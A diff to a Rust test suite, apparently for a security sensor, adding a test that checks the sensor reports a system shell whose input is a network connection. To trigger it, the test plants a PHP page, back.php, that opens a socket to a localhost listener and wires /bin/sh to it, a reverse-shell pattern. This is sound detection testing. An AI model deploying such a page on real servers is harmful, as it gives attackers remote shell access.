@@ -1,7 +1,7 @@
 //! Incidents and the history, against the running sensor: what is told is kept, explained
 //! and found; what is not told says why; a disk without room delays nothing.
 
-use std::{fs, path::Path, process::Command, str};
+use std::{fs, net::TcpListener, path::Path, process::Command, str, thread};
 
 use serde_json::Value;
 
@@ -229,6 +229,43 @@ fn an_alert_names_its_page_and_its_files_are_looked_at() {
     assert!(
         !told.contains(&format!("{shell}, executable, is elf")),
         "of a package: {told}"
+    );
+}
+
+/// A shell of the system whose input is a connection: that is told, though every package
+/// has it.
+#[test]
+fn a_shell_that_talks_to_the_network_is_told() {
+    let name = "history::a_shell_that_talks_to_the_network_is_told";
+    let Some(scene) = Scene::begin(name, site::NEEDS) else {
+        return;
+    };
+    let sensor = Sensor::start_with(&[]);
+    let site = Site::start(&scene, Start::Foreground, Pool::Steady);
+    let far = TcpListener::bind(("127.0.0.1", 0)).expect("a port");
+    let address = far.local_addr().expect("an address");
+    let code = format!(
+        "$far = fsockopen('127.0.0.1', {});
+proc_close(proc_open(['/bin/sh', '-c', 'read line; :'], [$far, $far, $far], $pipes));",
+        address.port()
+    );
+    site.page("back.php", &code);
+    let shell = tool("sh");
+    let notice = thread::scope(|scope| {
+        // The page waits for the shell, which waits for a line.
+        scope.spawn(|| site.visit("back.php"));
+        let (connection, _) = far.accept().expect("the page connects");
+        let notice = examined(&sensor, "executable", shell.to_str().expect("UTF-8"));
+        drop(connection);
+        notice
+    });
+    let peers = notice["file"]["peers"].as_array().expect("a list").clone();
+    assert_eq!(peers.len(), 3, "{notice}");
+    assert_eq!(peers[0]["far"], address.to_string(), "{notice}");
+    let told = String::from_utf8(sensor.stop_and_read()).expect("text");
+    assert!(
+        told.contains(&format!("descriptor 0 leads to {address}")),
+        "{told}"
     );
 }
 
